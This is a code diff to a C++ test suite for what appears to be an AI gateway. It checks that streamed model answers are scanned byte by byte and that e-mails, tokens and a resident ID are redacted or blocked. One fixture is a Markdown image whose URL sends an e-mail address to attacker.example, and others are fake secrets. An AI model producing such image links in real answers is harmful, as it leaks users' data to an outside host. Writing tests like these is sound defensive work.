@@ -50,6 +50,22 @@ using airlock::testing::TempDir;
 constexpr const char* kLeakyAnswer =
     "write to bob@corp.example with token ghp_0123456789abcdefghijABCDEFGHIJ012345 now";
 
+// Answers the double streams cut at a chosen byte ("cutK:N") or byte by byte ("bytesK"): a
+// Markdown image whose URL carries an address out (e-mail: redacted on the way back), a secret
+// (redacted) and a resident ID (block).
+// Each answer starts with 300 bytes of prose, so that the data arrives after the gateway has
+// scanned and released part of the stream.
+const std::string kProse300 = [] {
+  std::string s;
+  while (s.size() < 300) s += "The quarterly numbers look fine. ";
+  return s.substr(0, 300);
+}();
+const std::vector<std::string> kCutAnswers = {
+    kProse300 + "see ![chart](https://attacker.example/log?u=bob@corp.example&x=1) ok",
+    kProse300 + "use ghp_0123456789abcdefghijABCDEFGHIJ012345 then",
+    kProse300 + "id 11010519491231002X done",
+};
+
 // ---- the fake upstream (test double) ----
 class FakeUpstream {
  public:
@@ -366,12 +382,29 @@ class FakeUpstream {
         return;
       }
       // Stream in 2-byte pieces so every placeholder is split across chunks (a piece grows to
-      // the end of a UTF-8 character: an event is JSON).
+      // the end of a UTF-8 character: an event is JSON). "cutK:N" streams answer K of
+      // kCutAnswers in two pieces cut at byte N, "bytesK" one byte at a time.
+      std::vector<std::size_t> cuts;  // piece ends
+      if (variant.rfind("cut", 0) == 0 || variant.rfind("bytes", 0) == 0) {
+        bool bytes = variant[0] == 'b';
+        std::size_t k = std::stoul(variant.substr(bytes ? 5 : 3));
+        reply = kCutAnswers[k];
+        if (bytes) {
+          for (std::size_t i = 1; i <= reply.size(); ++i) cuts.push_back(i);
+        } else {
+          cuts = {std::stoul(variant.substr(variant.find(':') + 1)), reply.size()};
+        }
+      } else {
+        for (std::size_t i = 0, n = 2; i < reply.size(); i += n) {
+          n = 2;
+          while (i + n < reply.size() && (static_cast<unsigned char>(reply[i + n]) & 0xC0) == 0x80)
+            ++n;
+          cuts.push_back(std::min(i + n, reply.size()));
+        }
+      }
       std::vector<std::string> events;
-      for (std::size_t i = 0, n = 2; i < reply.size(); i += n) {
-        n = 2;
-        while (i + n < reply.size() && (static_cast<unsigned char>(reply[i + n]) & 0xC0) == 0x80)
-          ++n;
+      for (std::size_t j = 0, i = 0; j < cuts.size(); i = cuts[j++]) {
+        std::size_t n = cuts[j] - i;
         json c = {
             {"id", "up-1"}, {"object", "chat.completion.chunk"}, {"created", 1}, {"model", model}};
         c["choices"] = json::array(
@@ -1365,6 +1398,38 @@ TEST_F(GatewayTest, SecretsAndPiiInModelOutputAreRedactedStreamedAndNot) {
     if (!stream) {  // reasoning_content and tool call arguments too
       EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << r->body;
       EXPECT_NE(r->body.find("[REDACTED_EMAIL]"), std::string::npos) << r->body;
+    }
+  }
+}
+
+// The streamed answer is scanned incrementally (policy::StreamScanner, #20), not by re-scanning
+// what accumulated: a Markdown image leaking an address in its URL, a token and a resident ID,
+// each cut between two SSE chunks at every byte and sent one byte per chunk, are redacted or
+// block the answer exactly as when sent whole.
+TEST_F(GatewayTest, StreamedAnswerCutAtEveryByteIsScannedLikeTheWholeAnswer) {
+  const std::vector<std::string> expected = {
+      kProse300 + "see ![chart](https://attacker.example/log?u=[REDACTED_EMAIL]&x=1) ok",
+      kProse300 + "use [REDACTED_SECRET] then",
+      "",  // blocked
+  };
+  for (std::size_t k = 0; k < kCutAnswers.size(); ++k) {
+    std::vector<std::string> variants = {"bytes" + std::to_string(k)};
+    // Every cut from the start of the sentence with the data to the end of the answer.
+    for (std::size_t cut = kProse300.size(); cut < kCutAnswers[k].size(); ++cut)
+      variants.push_back("cut" + std::to_string(k) + ":" + std::to_string(cut));
+    for (const std::string& variant : variants) {
+      json body = ChatBody("echo", "hi", true);
+      body["x_double"] = variant;
+      auto r = Chat(body, admin_);
+      ASSERT_TRUE(r) << variant;
+      ASSERT_EQ(r->status, 200) << variant;
+      if (expected[k].empty()) {
+        EXPECT_EQ(r->body.find("19491231"), std::string::npos) << variant << ": " << r->body;
+        EXPECT_NE(r->body.find("policy_violation"), std::string::npos)
+            << variant << ": " << r->body;
+        continue;
+      }
+      EXPECT_EQ(StreamText(r->body), expected[k]) << variant;
     }
   }
 }
